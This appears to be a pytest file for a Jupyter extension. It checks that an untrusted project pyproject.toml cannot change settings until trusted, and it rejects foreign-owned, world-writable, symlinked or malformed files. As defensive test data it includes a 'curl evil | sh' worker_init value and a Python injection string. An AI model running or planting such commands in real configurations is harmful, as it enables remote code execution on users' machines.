"""A pyproject.toml that somebody else has made, or that came with a clone: what it can't do."""

from __future__ import annotations

import json
import os
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from gc_jupyter.errors import UnknownEndpoint
from gc_jupyter.session import Directory
from gc_jupyter.settings import Settings, SettingsError
from tests.hostile.test_files import as_root

NOBODY = 65534
A = "4b116d3c-1703-4f8f-9f6f-39921e5864df"
B = "7ad8a1a5-32f2-4d6f-8f3e-000000000002"
NESTED = "x = " + "[" * 50_000
NESTED_KEYS = "[tool.gc_jupyter]\n" + ".".join("a" * 50_000) + " = 1\n"
posix = pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX's")


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    (tmp_path / "above/work/notebooks").mkdir(parents=True)
    return Settings(tmp_path / "home/gc_jupyter.toml", tmp_path / "above/work/notebooks")


def write(settings: Settings, text: str, *, head: str = "[tool.gc_jupyter]\n") -> Path:
    assert settings._directory is not None
    file = settings._directory.parent / "pyproject.toml"
    file.write_text(head + text)
    return file


def trust(settings: Settings) -> None:
    project = settings.project()
    assert project is not None
    assert not project.problem
    settings.known.trust(project.path, project.digest)


# --- before and after %gc trust ---------------------------------------------------------------


def test_one_line_until_it_is_trusted(settings: Settings) -> None:
    file = write(settings, f'endpoint = "{A}"\nhtml = true\n')
    assert settings.all() == {}
    assert settings.notices() == [
        f'{file} would set endpoint = "{A}" and html = true; %gc trust has it used.'
    ]
    assert settings.notices() == []
    trust(settings)
    assert settings.get("endpoint") == A
    assert settings.get("html") is True
    assert settings.notices() == []


def test_a_change_asks_again(settings: Settings) -> None:
    file = write(settings, f'endpoint = "{A}"\n')
    trust(settings)
    before = file.stat()
    write(settings, f'endpoint = "{B}"\n')
    os.utime(file, ns=(before.st_atime_ns, before.st_mtime_ns))  # as if nothing had happened
    assert settings.get("endpoint") is None
    (line,) = settings.notices()
    assert f'has changed since you trusted it: it would set endpoint = "{B}"' in line
    write(settings, f'endpoint = "{A}"\n')
    assert settings.get("endpoint") == A  # the content that was agreed to


def test_trust_is_for_one_place(settings: Settings) -> None:
    file = write(settings, f'endpoint = "{A}"\n')
    trust(settings)
    other = file.parent / "other"
    other.mkdir()
    (other / "pyproject.toml").write_text(file.read_text())
    assert Settings(settings.user_file, other).get("endpoint") is None


def test_what_was_looked_at_is_what_is_used(settings: Settings) -> None:
    """The file may change between its hash and its use: both are of the same bytes."""
    file = write(settings, f'endpoint = "{A}"\n')
    project = settings.project()
    assert project is not None
    file.write_text(f'[tool.gc_jupyter]\nendpoint = "{B}"\n')
    settings.known.trust(project.path, project.digest)
    assert project.settings == {"endpoint": A}
    assert settings.get("endpoint") is None  # this content was never agreed to


@posix
def test_what_was_agreed_to_is_the_users_alone(settings: Settings) -> None:
    write(settings, f'endpoint = "{A}"\n')
    trust(settings)
    file = settings.user_file.with_name("gc_jupyter_known.toml")
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    file.chmod(0o666)
    assert settings.get("endpoint") is None
    assert any("other users may have written it" in line for line in settings.notices())
    with pytest.raises(SettingsError, match="other users may have written it"):
        settings.known.names()


# --- what it may not set ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "instead"),
    [
        (f'[tool.gc_jupyter.aliases]\n"{A}" = "{B}"\n', "%gc use UUID --alias NAME"),
        (f'[tool.gc_jupyter.aliases]\npolaris = "{B}"\n', "%gc use UUID --alias NAME"),
        (
            '[tool.gc_jupyter.endpoint_config]\nworker_init = "curl evil | sh"\n',
            "%gc config endpoint_config VALUE",
        ),
        ("[tool.gc_jupyter]\namqp_port = 1\n", "%gc config amqp_port VALUE"),
        ("[tool.gc_jupyter]\ncollect_results = true\n", "%gc config collect_results true"),
        ("[tool.gc_jupyter]\nresources = {num_nodes = 9}\n", "%gc config resources VALUE"),
        ("[tool.gc_jupyter]\nblock = false\n", "%gc config block VALUE"),
        ("[tool.gc_jupyter]\nnonsense = 1\n", "there is no such setting"),
    ],
)
def test_what_is_not_a_projects_to_set(settings: Settings, text: str, instead: str) -> None:
    file = write(settings, text, head="")
    (line,) = settings.notices()
    assert line.startswith(f"{file}: ")
    assert "a project's to set" in line
    assert instead in line
    trust(settings)
    assert settings.all() == {}
    assert settings.aliases() == {}


def test_a_uuid_is_never_an_alias(settings: Settings) -> None:
    settings.user_file.parent.mkdir()
    for name in (A, A.upper(), f"urn:uuid:{A}", A.replace("-", "")):
        settings.user_file.write_text(f'[aliases]\n"{name}" = "{B}"\nb = "{B}"\n')
        assert settings.aliases() == {"b": B}
        assert Directory(settings, lambda: None).resolve(name).endpoint_id == A
        assert any("can't be: it means itself" in line for line in settings.notices())
        with pytest.raises(SettingsError, match="means itself"):
            settings.set_alias(name, B)
    with pytest.raises(SettingsError, match="means itself"):
        settings.set_alias("local", B)
    with pytest.raises(SettingsError, match="no UUID"):
        settings.set_alias("name", "{expression}")


def test_a_value_is_text(settings: Settings, tmp_path: Path) -> None:
    made = tmp_path / "made"
    for text in (f"{{__import__('os').mkdir({str(made)!r})}}", "$endpoint", "{A}"):
        write(settings, f"endpoint = {json.dumps(text)}\n")
        trust(settings)
        assert settings.get("endpoint") == text
        with pytest.raises(UnknownEndpoint):
            Directory(settings, lambda: None).resolve(text)
    assert not made.exists()


# --- whose it is ------------------------------------------------------------------------------


def of_another(file: Path) -> None:
    as_root()
    os.chown(file, NOBODY, NOBODY)


def writable(file: Path) -> None:
    file.chmod(0o666)


def writable_by_the_group(file: Path) -> None:
    file.chmod(0o664)


def folder_of_another(file: Path) -> None:
    as_root()
    os.chown(file.parent, NOBODY, NOBODY)


def writable_folder(file: Path) -> None:
    file.parent.chmod(0o777)


def folder_writable_by_the_group(file: Path) -> None:
    file.parent.chmod(0o775)


def folder_above_writable(file: Path) -> None:
    file.parent.parent.chmod(0o777)


def sticky_folder_of_another(file: Path) -> None:
    as_root()
    os.chown(file.parent, NOBODY, NOBODY)
    file.parent.chmod(0o1777)


def link_into_a_writable_folder(file: Path) -> None:
    open_to_all = file.parent / "open"
    open_to_all.mkdir(mode=0o777)
    open_to_all.chmod(0o777)
    file.rename(open_to_all / "real.toml")
    file.symlink_to(open_to_all / "real.toml")


def link_through_a_writable_folder(file: Path) -> None:
    """The file is safe in the end, and the link on the way to it can be turned."""
    turned = file.parent / "turned"
    turned.mkdir()
    turned.chmod(0o777)
    safe = file.parent / "safe"
    safe.mkdir()
    file.rename(safe / "real.toml")
    (turned / "way").symlink_to(safe)
    file.symlink_to(turned / "way/real.toml")


def link_of_another(file: Path) -> None:
    as_root()
    file.rename(file.with_name("real.toml"))
    file.symlink_to(file.with_name("real.toml"))
    os.chown(file, NOBODY, NOBODY, follow_symlinks=False)
    file.parent.chmod(0o1777)


def pipe(file: Path) -> None:
    file.unlink()
    os.mkfifo(file)


def folder(file: Path) -> None:
    file.unlink()
    file.mkdir()


def device(file: Path) -> None:
    file.unlink()
    file.symlink_to("/dev/zero")


def huge(file: Path) -> None:
    with file.open("a") as text:
        text.write("#" * 3_000_000)


FOREIGN = [
    *(of_another, writable, writable_by_the_group, folder_of_another, writable_folder),
    *(folder_writable_by_the_group, folder_above_writable, sticky_folder_of_another),
    *(link_into_a_writable_folder, link_through_a_writable_folder, link_of_another),
    *(pipe, folder, device, huge),
]


@posix
@pytest.mark.parametrize("prepare", FOREIGN)
def test_a_foreign_project_is_not_used(settings: Settings, prepare: Callable[[Path], None]) -> None:
    file = write(settings, f'endpoint = "{A}"\n')
    trust(settings)
    assert settings.get("endpoint") == A
    settings.set("label", "mine")
    prepare(file)
    assert settings.get("endpoint") is None
    assert settings.get("label") == "mine"
    (line,) = settings.notices()
    assert line.startswith(f"{file} isn't used: ")
    assert "\n" not in line


@posix
def test_a_sticky_folder_is_passed(settings: Settings) -> None:
    """/tmp is one: what is the user's own there can't be replaced by others."""
    file = write(settings, f'endpoint = "{A}"\n')
    trust(settings)
    file.parent.chmod(0o1777)
    assert settings.get("endpoint") == A


@posix
def test_a_foreign_file_without_settings_is_no_matter(settings: Settings) -> None:
    file = write(settings, "[project]\nname = 'x'\n", head="")
    of_another(file)
    assert settings.notices() == []


# --- what it is -------------------------------------------------------------------------------

BAD = {
    "nested arrays": NESTED.encode() + b"# gc_jupyter",
    "nested tables": b"x = " + b"{a=" * 50_000 + b"# gc_jupyter",
    "nested keys": NESTED_KEYS.encode(),
    "no UTF-8": b"[tool.gc_jupyter]\nlabel = '\xff'\n",
    "no TOML": b"[tool.gc_jupyter\n",
    "no table": b"tool.gc_jupyter = 3\n",
    "no such kind": b"[tool.gc_jupyter]\nendpoint = 3\n",
}


@pytest.mark.parametrize("name", BAD)
def test_a_project_that_cannot_be_read(settings: Settings, name: str) -> None:
    settings.set("label", "mine")
    write(settings, "").write_bytes(BAD[name])
    assert settings.get("label") == "mine"
    (line,) = settings.notices()
    assert len(line) < 500
    assert settings.notices() == []


@pytest.mark.parametrize("name", [name for name in BAD if name not in ("no table", "no such kind")])
def test_a_users_file_that_cannot_be_read(settings: Settings, name: str) -> None:
    settings.user_file.parent.mkdir()
    settings.user_file.write_bytes(BAD[name])
    write(settings, "label = 'ours'\n")
    trust(settings)
    assert settings.get("label") == "ours"
    (line,) = settings.notices()
    assert line.startswith(f"{settings.user_file} can't be read: ")
    assert len(line) < 500
    with pytest.raises(SettingsError):  # it isn't overwritten
        settings.set("label", "x")
    with pytest.raises(SettingsError):  # nobody knows what names mean
        Directory(settings, lambda: None).resolve("polaris")
    assert Directory(settings, lambda: None).resolve(A).endpoint_id == A
    assert settings.user_file.read_bytes() == BAD[name]


@posix
@pytest.mark.parametrize(
    "prepare", [of_another, writable, writable_by_the_group, writable_folder, pipe, device, huge]
)
def test_a_users_file_of_somebody_else(settings: Settings, prepare: Callable[[Path], None]) -> None:
    settings.set("label", "mine")
    prepare(settings.user_file)
    assert settings.get("label") is None
    (line,) = settings.notices()
    assert line.startswith(f"{settings.user_file} isn't used: ")
